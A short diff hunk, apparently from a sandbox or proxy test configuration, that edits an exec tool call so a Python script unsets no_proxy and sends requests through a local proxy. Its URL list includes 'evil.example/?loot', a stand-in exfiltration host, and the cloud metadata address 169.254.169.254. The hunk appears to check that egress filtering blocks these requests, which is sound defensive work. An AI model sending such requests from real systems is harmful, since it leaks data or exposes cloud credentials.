@@ -85,7 +85,7 @@ done
 true
 """ } },
   { tool = "exec", input = { command = """
-python3 - <<'PY'
+env -u no_proxy -u NO_PROXY python3 - <<'PY'
 import urllib.request, urllib.error
 opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": "http://127.0.0.1:4128"}))
 for url in ["http://evil.example/?loot", "http://127.0.0.1:4222/", "http://169.254.169.254/latest/meta-data/"]:
